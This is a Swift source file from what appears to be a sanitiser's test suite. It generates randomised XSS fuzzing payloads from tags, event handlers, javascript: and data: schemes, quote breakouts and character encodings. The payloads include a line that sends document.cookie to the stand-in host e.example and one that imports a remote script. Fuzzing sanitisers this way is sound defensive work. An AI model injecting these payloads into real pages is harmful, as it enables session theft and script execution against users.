import TestSupport

/// Makes what attackers write: tags × event handlers × schemes × encodings × broken quoting.
struct PayloadGenerator {
    private var random: SeededGenerator

    init(seed: UInt64) {
        random = SeededGenerator(seed: seed)
    }

    mutating func payloads(_ count: Int) -> [[UInt8]] {
        (0..<count).map { _ in Array(payload().utf8) }
    }

    private mutating func payload() -> String {
        switch Int.random(in: 0..<10, using: &random) {
        case 0..<4: random.pick(Self.breakouts) + element() + random.pick(Self.tails)
        case 4: random.pick(Self.breakouts) + attribute() + random.pick(Self.tails)
        case 5..<8: link(address())
        case 8: random.pick(Self.breakouts) + encoded(element())
        default: encoded(random.pick(Self.scripts))
        }
    }

    // MARK: Elements and attributes

    private static let tags = [
        "script", "img", "svg", "math", "iframe", "object", "embed", "body", "video", "audio", "source", "input",
        "form", "button",
        "select", "textarea", "details", "marquee", "style", "link", "meta", "base", "a", "div", "x", "isindex",
        "keygen", "table",
        "td", "title", "xmp", "plaintext", "noscript", "template", "foreignObject", "animate", "set", "use", "image",
        "frameset",
    ]
    private static let handlers = [
        "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onstart", "onbegin",
        "onanimationend",
        "onpointerrawupdate", "onbeforescriptexecute", "onwheel", "oncopy", "onhashchange", "onpageshow", "onsubmit",
        "onscroll",
        "style", "srcdoc", "formaction", "xlink:href", "action", "href", "src", "data", "poster", "background",
        "http-equiv",
    ]
    private static let scripts = [
        "alert(1)", "alert`1`", "alert&lpar;1&rpar;", "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)",
        "\\u0061lert(1)",
        "confirm(document.domain)", "(alert)(1)", "x=alert,x(1)", "import('//e.example/x.js')", "throw onerror=alert,1",
        "width:expression(alert(1))", "fetch('https://e.example/?'+document.cookie)",
    ]
    /// What ends what the payload may stand in.
    private static let breakouts = [
        "", "", "", "\"", "'", "`", ">", "\">", "'>", "\"/>", "'\"><", "-->", "--!>", "<!--", "<!-- --!>", "]]>",
        "<![CDATA[", "</title>",
        "</textarea>", "</style>", "</script>", "</script >", "</noscript>", "</xmp>", "</iframe>", "</svg>", "*/",
        "\\\"", "\\'", "%22>",
        "&quot;>", "&#34;>", "\u{0}\">", "\u{FF02}>", "}}", "{{{", "|", "||\n|--|\n|", "](", ")",
        "](javascript:alert(1))", "`", "```\n",
        "~~~\n", "\n\n", "\r\n\r\n", "<", "<<", "<?", "<?php ", "<!", "<!DOCTYPE html>", "</", "<//", "\\", "---\n",
        "\u{85}", "\u{2028}",
    ]
    private static let tails = [
        "", "", "", "//", "<!--", "\"", "'", ">", "\u{0}", "</script>", "/*", " x=\"", " x='", "-->", "%00", "\\",
    ]
    private static let spaces = [
        " ", " ", "/", "\t", "\n", "\u{C}", "\r\n", "//", " / ", "\u{B}", "\u{A0}", "\u{0}", "+", "",
    ]
    private static let quotes = [
        ("\"", "\""), ("'", "'"), ("`", "`"), ("", ""), ("\"", ""), ("", "\""), ("\"", "'"), ("&quot;", "&quot;"),
    ]

    private mutating func element() -> String {
        let tag = mixedCase(random.pick(Self.tags))
        let start = random.pick([
            "<", "<", "<", "<", "< ", "<\u{0}", "&lt;", "\u{FF1C}", "%3C", "<\n", "\\<", "&#60;", "&#x3c", "\\u003c",
        ])
        let attributes = (0..<Int.random(in: 0...3, using: &random)).map { _ in attribute() }.joined()
        let inside = tag.lowercased() == "script" || random.once(in: 3) ? random.pick(Self.scripts) : ""
        let end = random.pick([">", ">", ">", "/>", " >", "", "<", "&gt;", "\n>"])
        return "\(start)\(tag)\(attributes)\(end)\(inside)" + (random.once(in: 2) ? "</\(tag)>" : "")
    }

    private mutating func attribute() -> String {
        let name = mixedCase(random.pick(Self.handlers))
        let quotes = random.pick(Self.quotes)
        let value = random.once(in: 3) ? address() : random.pick(Self.scripts)
        return random.pick(Self.spaces) + name + random.pick(["=", "=", " = ", "=\n", "\t=", "\u{0}="]) + quotes.0
            + (random.once(in: 4) ? encoded(value) : value) + quotes.1
    }

    private mutating func mixedCase(_ text: String) -> String {
        guard random.once(in: 3) else { return text }
        return text.map { random.once(in: 2) ? $0.uppercased() : String($0) }.joined()
    }

    // MARK: Addresses

    private static let addresses = [
        "javascript:alert(1)", "javascript://e.example/%0aalert(1)", "javascript:/*--></title>*/alert(1)",
        "vbscript:msgbox(1)",
        "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload=alert(1)>", "feed:javascript:alert(1)", "view-source:javascript:alert(1)",
        "jar:https://e.example/x!/", "file:///etc/passwd", "blob:https://e.example/1", "about:blank",
        "chrome://settings",
        "//e.example/x.js", "///e.example", "\\\\e.example\\x", "/\\e.example", "https:javascript:alert(1)",
        "http:/e.example",
        "x-javascript:alert(1)", "intent://e.example#Intent;end", "ms-settings:", "tel:javascript:alert(1)",
        "?javascript:alert(1)",
        "https://e.example/\" onmouseover=\"alert(1)", "https://e.example/'onfocus='alert(1)",
        "mailto:\"><svg onload=alert(1)>@e.example",
        "https://user:pass@e.example:443/", "#javascript:alert(1)", "https://e.example/<script>alert(1)</script>",
        "ht\u{0}tps:alert(1)",
    ]

    private mutating func address() -> String {
        var address = random.pick(Self.addresses)
        switch Int.random(in: 0..<8, using: &random) {
        case 0: address = mixedCase(address)
        case 1:
            address =
                random.pick([" ", "\t", "\n", "\u{1}", "\u{0}", "\u{A0}", "\u{200B}", "\u{FEFF}", "&#1;", "&Tab;"])
                + address
        case 2, 3: address = split(address)
        case 4: address = encoded(address)
        case 5:
            address = address.replacing(
                ":",
                with: random.pick(["&colon;", "&#58;", "&#x3A;", "%3A", "\u{FF1A}", "\\:", ": ", "\t:", "\\u003a"]))
        default: break
        }
        return address
    }

    /// The scheme with something inside it that a lenient reader leaves out.
    private mutating func split(_ text: String) -> String {
        let splitters = [
            "\t", "\n", "\r", "\u{0}", "&Tab;", "&NewLine;", "&#9;", "&#x0A;", "&#13", "&#0;", "\u{AD}", "\u{200D}",
            "%09", "%0a", "\\", " ",
            "<!-- -->", "/**/", "&shy;", "&zwj;", "\u{301}", "&#x200B;",
        ]
        var characters = Array(text)
        characters.insert(
            contentsOf: random.pick(splitters), at: Int.random(in: 0...min(11, characters.count), using: &random))
        return String(characters)
    }

    /// An address in a form of Markdown or HTML that makes a link of it.
    private mutating func link(_ address: String) -> String {
        switch Int.random(in: 0..<12, using: &random) {
        case 0: "[x](\(address))"
        case 1: "[x](<\(address)>)"
        case 2: "![x](\(address))"
        case 3: "<\(address)>"
        case 4: "[x]\n\n[x]: \(address)"
        case 5: "[x](\(address) \"\(random.pick(Self.breakouts))\(random.pick(Self.scripts))\")"
        case 6: "[\(random.pick(Self.breakouts))](\(address))"
        case 7: "[![x](\(address))](\(address))"
        case 8: "<a href=\"\(address)\">x</a>"
        case 9: "[x](\(address)){: onclick=alert(1)}"
        case 10: "| [x](\(address)) |\n|--|\n| <\(address)> |"
        default: address
        }
    }

    // MARK: Encodings

    /// The text with some or all of its characters written another way.
    private mutating func encoded(_ text: String) -> String {
        let share = random.pick([1, 2, 4])
        let style = Int.random(in: 0..<10, using: &random)
        var result = ""
        for scalar in text.unicodeScalars {
            result += random.once(in: share) ? encoded(scalar, style) : String(scalar)
        }
        return result
    }

    private mutating func encoded(_ scalar: Unicode.Scalar, _ style: Int) -> String {
        let hex = String(scalar.value, radix: 16)
        let zeros = String(repeating: "0", count: max(0, 4 - hex.count))
        switch style {
        case 0: return "&#\(scalar.value);"
        case 1: return "&#x\(hex);"
        case 2: return "&#\(scalar.value)"
        case 3: return "&#x\(String(repeating: "0", count: Int.random(in: 0...6, using: &random)))\(hex.uppercased())"
        case 4:
            return scalar.isASCII ? "%" + String(repeating: "0", count: hex.count == 1 ? 1 : 0) + hex : String(scalar)
        case 5: return "%25" + hex
        case 6: return "\\u\(zeros)\(hex)"
        case 7: return "\\x\(hex)"
        case 8:
            // Full-width forms, which some normalise to ASCII.
            let isPrintable = (0x21...0x7E).contains(scalar.value)
            return isPrintable ? Unicode.Scalar(scalar.value + 0xFEE0).map { String($0) } ?? "" : String(scalar)
        default:
            let names: [Unicode.Scalar: String] = [
                "<": "&lt;", ">": "&gt;", "\"": "&quot;", "'": "&apos;", "&": "&amp;", ":": "&colon;", "(": "&lpar;",
                ")": "&rpar;",
                "/": "&sol;", "=": "&equals;", "\t": "&Tab;", "\n": "&NewLine;", "[": "&lbrack;", "{": "&lbrace;",
                "|": "&vert;",
            ]
            return names[scalar] ?? String(scalar)
        }
    }
}
